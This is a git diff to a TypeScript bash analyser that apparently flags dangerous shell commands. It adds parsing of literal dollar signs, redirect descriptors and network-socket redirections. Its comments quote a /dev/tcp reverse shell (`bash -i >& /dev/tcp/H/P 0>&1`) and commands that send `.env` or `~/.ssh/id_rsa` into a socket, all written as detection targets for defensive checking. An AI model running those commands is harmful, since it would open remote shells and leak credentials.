@@ -21,6 +21,7 @@ import { SYSTEM_PROGRAM_FOLDERS, untrustedSearchFolder } from './search-path.ts'
 import { isInterpreterVariable, isRoutingVariable, markRouting, toolRouting, unsetRouting } from './tool-routing.ts';
 import { judgeWrittenConfig } from './written-config.ts';
 import { zshAsBash } from './zsh.ts';
+import { commandSockets, keepShellSockets, RUNS_ITS_INPUT, senderOf, shellHasSockets, withoutSockets } from './sockets.ts';
 import { snapshotListing, snapshotListingFilter, snapshotListingHead, snapshotListingTail } from './snapshot-retention.ts';
 import { previewListing } from './preview-listing.ts';
 import { RUN_NUMBER_STANDIN } from '../stamped-names.ts';
@@ -92,6 +93,7 @@ function runSource(source: string, scope: ShellScope, env: ShellEnv, stdin: Stdi
   }
   try {
     const root = tree.rootNode;
+    if (root.hasError && readWithLiteralDollars(source, scope, env, stdin, offset)) return;
     if (bashRejects(root, source) && readAsZsh(source, scope, env, stdin, offset)) return;
     if (root.hasError) {
       // SECURITY: a script bash might read differently from us is opaque; we still walk it for targets.
@@ -208,6 +210,71 @@ function readAsZsh(source: string, scope: ShellScope, env: ShellEnv, stdin: Stdi
     for (let i = before; i < env.b.findings.length; i++) {
       const f = env.b.findings[i]!;
       if (f.span) f.span = { start: offset, end: offset + source.length };
+    }
+    return true;
+  } finally {
+    tree.delete();
+  }
+}
+
+/**
+ * The lead's answer 403.6 (round 39): a `$` before a character that starts no expansion is a literal `$` in bash (bash(1),
+ * EXPANSION: only a name, a digit, one of `@*#?-$!0`, `{`, `(`, `[` or a quote after `$` expands), as in a Go test
+ * pattern (`go test -run=^TestA$/^TestB$`); tree-sitter-bash stops there with a syntax error. Each such `$` outside single
+ * quotes is written `\$` (the same `$` to bash) and the input parsed again; when that parses cleanly it is walked instead,
+ * its findings' spans mapped back onto the input (one character added per `$`). False when there is no such `$`, when
+ * the input has a heredoc (a quoted heredoc's body keeps a backslash) or when the rewritten input still does not parse:
+ * the input stays a syntax error (fail closed).
+ */
+function readWithLiteralDollars(source: string, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): boolean {
+  if (!source.includes('$') || source.includes('<<')) return false;
+  const added: number[] = [];
+  let out = '';
+  let quote: '' | '"' | '`' = '';
+  for (let i = 0; i < source.length; i++) {
+    const ch = source[i]!;
+    if (ch === '\\') {
+      out += source.slice(i, i + 2);
+      i++;
+      continue;
+    }
+    if (quote === '' && (ch === "'" || (ch === '$' && source[i + 1] === "'"))) {
+      // A single-quoted or ANSI-C quoted string is copied as it is: nothing in it expands.
+      const from = ch === '$' ? i + 2 : i + 1;
+      let end = from;
+      while (end < source.length && source[end] !== "'") end += ch === '$' && source[end] === '\\' ? 2 : 1;
+      out += source.slice(i, end + 1);
+      i = end;
+      continue;
+    }
+    if (quote === '' && ch === '#' && (i === 0 || /[\s;&|(]/.test(source[i - 1]!))) {
+      // A comment runs to the end of its line.
+      const end = source.indexOf('\n', i);
+      out += end < 0 ? source.slice(i) : source.slice(i, end);
+      i = end < 0 ? source.length : end - 1;
+      continue;
+    }
+    if (ch === '"' || ch === '`') quote = quote === ch ? '' : quote === '' ? ch : quote;
+    if (ch === '$' && i + 1 < source.length && !/[\w@*#?$!{(["'\s;&|)<>`-]/.test(source[i + 1]!)) {
+      added.push(out.length);
+      out += '\\';
+    }
+    out += ch;
+  }
+  if (added.length === 0) return false;
+  const tree = parseBash(out);
+  if (!tree) return false;
+  try {
+    if (bashRejects(tree.rootNode, out)) return false;
+    const back = (at: number) => {
+      const local = at - offset;
+      return offset + local - added.filter((a) => a < local).length;
+    };
+    const before = env.b.findings.length;
+    visit(tree.rootNode, scope, env, stdin, offset);
+    for (let i = before; i < env.b.findings.length; i++) {
+      const f = env.b.findings[i]!;
+      if (f.span && f.span.start >= offset && f.span.end <= offset + out.length) f.span = { start: back(f.span.start), end: back(f.span.end) };
     }
     return true;
   } finally {
@@ -409,7 +476,7 @@ function visitNode(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | 
       // A redirect with no command (`> file`): bash truncates the file.
       const dest = node.childForFieldName('destination');
       const op = node.children.find((c) => c && !c.isNamed && /[<>]/.test(c.type))?.type ?? '>';
-      if (dest) dispatchRedirectOnly({ op, target: toWord(dest, scope.vars, offset), span: { start: offset + node.startIndex, end: offset + node.endIndex } }, scope, env);
+      if (dest) dispatchRedirectOnly({ op, target: toWord(dest, scope.vars, offset), span: { start: offset + node.startIndex, end: offset + node.endIndex }, ...descriptorOf(node) }, scope, env);
       return;
     }
     case 'ERROR':
@@ -1763,9 +1830,10 @@ function visitRedirected(node: Node, scope: ShellScope, env: ShellEnv, stdin: St
     if (r.type === 'file_redirect') {
       const dest = r.childForFieldName('destination');
       if (dest) visitSubstitutions(dest, scope, env, offset);
-      trailing.push(...redirectOperands(r));
+      trailing.push(...redirectOperands(r).filter((d) => gluedDescriptor(d) === null));
       const op = r.children.find((c) => c && !c.isNamed && /[<>]/.test(c.type))?.type ?? '>';
-      redirects.push({ op, target: dest ? toWord(dest, scope.vars, offset) : null, span: { start: offset + r.startIndex, end: offset + r.endIndex } });
+      const glued = descriptorOf(r).fd === undefined ? gluedDescriptorOf(r) : null;
+      redirects.push({ op, target: dest ? toWord(dest, scope.vars, offset) : null, span: { start: offset + r.startIndex, end: offset + r.endIndex }, ...(glued !== null ? { fd: glued } : descriptorOf(r)) });
       if (op === '<' && dest) input = { text: null, producer: `the file \`${dest.text}\``, file: toWord(dest, scope.vars, offset).value };
     }
   }
@@ -1779,7 +1847,7 @@ function visitRedirected(node: Node, scope: ShellScope, env: ShellEnv, stdin: St
       if (inner?.type === 'file_redirect') {
         const dest = inner.childForFieldName('destination');
         const op = inner.children.find((c) => c && !c.isNamed && /[<>]/.test(c.type))?.type ?? '>';
-        redirects.push({ op, target: dest ? toWord(dest, scope.vars, offset) : null, span: { start: offset + inner.startIndex, end: offset + inner.endIndex } });
+        redirects.push({ op, target: dest ? toWord(dest, scope.vars, offset) : null, span: { start: offset + inner.startIndex, end: offset + inner.endIndex }, ...descriptorOf(inner) });
       }
     }
   }
@@ -1804,6 +1872,7 @@ function visitRedirected(node: Node, scope: ShellScope, env: ShellEnv, stdin: St
     // moved the folder relative paths resolve in). SECURITY: the operands were dropped and the command judged without them.
     const taker = lastSimpleCommand(body);
     if (!taker) recordWrites(last ?? body, redirects, scope, env, doc);
+    if (!taker) compoundIntoSocket(body, redirects, scope, env, offset);
     const handOff: HandOff | undefined = taker ? { tree: taker.tree, at: taker.startIndex, redirects, trailing, doc } : undefined;
     const outer = env.handOff;
     env.handOff = handOff;
@@ -1819,6 +1888,20 @@ function visitRedirected(node: Node, scope: ShellScope, env: ShellEnv, stdin: St
     for (const r of redirects) dispatchRedirectOnly(r, at, env, false);
   }
   visitHeredocTails(node, scope, env, stdin, offset);
+}
+
+/**
+ * A compound statement's output sent into a socket (`{ cat .env; uname -a; } >&3`, `while …; done > /dev/tcp/H/P`): each
+ * command inside prints into it, so each is judged as sent with `nc H P` (sockets.ts), as a simple command's output is.
+ */
+function compoundIntoSocket(body: Node, redirects: Redirect[], scope: ShellScope, env: ShellEnv, offset: number): void {
+  const out = commandSockets(redirects, scope).output;
+  if (out === null) return;
+  for (const cmd of body.descendantsOfType('command')) {
+    if (!cmd) continue;
+    const producer = cmd.parent?.type === 'redirected_statement' && cmd.parent.childForFieldName('body')?.id === cmd.id ? cmd.parent : cmd;
+    runNested(senderOf(out), { ...withoutSockets(childScope(scope)), depth: scope.depth + 1 }, env, describeProducer(producer, scope, null), offset + cmd.startIndex);
+  }
 }
 
 /** The simple command bash gives a list's or pipeline's trailing redirects to: the last one, when it is a command. */
@@ -1844,6 +1927,29 @@ function visitHeredocTails(node: Node, scope: ShellScope, env: ShellEnv, stdin: 
 function dispatchRedirectOnly(r: Redirect, scope: ShellScope, env: ShellEnv, bare = true): void {
   const inv = makeInvocation(bare ? ':' : '{}', [], [r], null, new Map(), r.span, scope, env);
   dispatchCommand(inv);
+}
+
+/** The descriptor a redirect names before its operator (`3>&1`), as a field of the Redirect. */
+function descriptorOf(r: Node): { fd?: string } {
+  const fd = r.childForFieldName('descriptor')?.text;
+  return fd === undefined ? {} : { fd };
+}
+
+/**
+ * tree-sitter-bash reads `bash -i >& /dev/tcp/H/P 0>&1` as the operand `0` after the first redirect's target and a `>&1`
+ * with no descriptor; bash reads `0>&1` (digits written against the operator name its descriptor: bash(1), REDIRECTION).
+ * The number operand written against the next redirect, or null.
+ */
+function gluedDescriptor(d: Node): string | null {
+  const next = d.parent?.nextSibling;
+  return d.type === 'number' && /^\d+$/.test(d.text) && next?.type === 'file_redirect' && next.startIndex === d.endIndex && !next.childForFieldName('descriptor') && d.parent?.lastChild?.id === d.id ? d.text : null;
+}
+
+/** The descriptor written against this redirect's operator that the grammar gave the redirect before it (gluedDescriptor). */
+function gluedDescriptorOf(r: Node): string | null {
+  const before = r.previousSibling;
+  const last = before?.type === 'file_redirect' ? before.lastChild : null;
+  return last ? gluedDescriptor(last) : null;
 }
 
 /**
@@ -1892,7 +1998,7 @@ function visitCommand(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin
     } else if (c.type === 'file_redirect') {
       const dest = c.childForFieldName('destination');
       const op = c.children.find((x) => x && !x.isNamed && /[<>]/.test(x.type))?.type ?? '>';
-      redirects.push({ op, target: dest ? toWord(dest, scope.vars, offset) : null, span: { start: offset + c.startIndex, end: offset + c.endIndex } });
+      redirects.push({ op, target: dest ? toWord(dest, scope.vars, offset) : null, span: { start: offset + c.startIndex, end: offset + c.endIndex }, ...descriptorOf(c) });
       if (op === '<' && dest) input = { text: null, producer: `the file \`${dest.text}\``, file: toWord(dest, scope.vars, offset).value };
     } else if (c.type === 'herestring_redirect') {
       const w = c.namedChildren[0];
@@ -1905,6 +2011,26 @@ function visitCommand(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin
   if (words.length === 0) {
     for (const r of redirects) dispatchRedirectOnly(r, scope, env);
     return;
+  }
+  // Network redirections (sockets.ts): `exec` alone keeps its descriptors for the shell; a command reading a socket
+  // reads the network, and what it prints into one is judged as sent with `nc H P`.
+  const namedFd = words.length === 2 && words[0]!.value === 'exec' && /^\{[A-Za-z_]\w*\}$/.test(words[1]!.value ?? '') && redirects.length > 0 ? words[1]!.value! : null;
+  if (namedFd !== null) {
+    redirects[0] = { ...redirects[0]!, fd: namedFd };
+    words.pop();
+  }
+  const sockets = redirects.length > 0 || shellHasSockets(scope) ? commandSockets(redirects, scope) : null;
+  if (sockets !== null && words.length === 1 && words[0]!.value === 'exec') keepShellSockets(scope, sockets.changed);
+  else if (sockets?.input) {
+    const program = words[0]!.value?.replace(/^.*\//, '') ?? null;
+    // SECURITY: a shell whose input is a socket runs what the peer sends (a reverse shell); a name not fixed may be one.
+    if (program === null || RUNS_ITS_INPUT.test(program)) env.b.opaque('reverse_shell', `\`${program ?? words[0]!.text}\` runs commands read from the network socket \`${sockets.input.host}:${sockets.input.port}\``, span);
+    input = { text: null, producer: `the network socket \`${sockets.input.host}:${sockets.input.port}\`` };
+  }
+  if (sockets?.output && !(words.length === 1 && words[0]!.value === 'exec')) {
+    // The statement the redirects hang on (`base64 < ~/.ssh/id_rsa >&3`): its `<` is the producer's input.
+    const producer = node.parent?.type === 'redirected_statement' && node.parent.childForFieldName('body')?.id === node.id ? node.parent : node;
+    runNested(senderOf(sockets.output), { ...withoutSockets(childScope(scope)), depth: scope.depth + 1 }, env, describeProducer(producer, scope, input), span.start);
   }
   if (!writesRecorded) recordWrites(node, redirects, scope, env);
   const inv = makeInvocation('', words, redirects, input, assignments, span, scope, env);
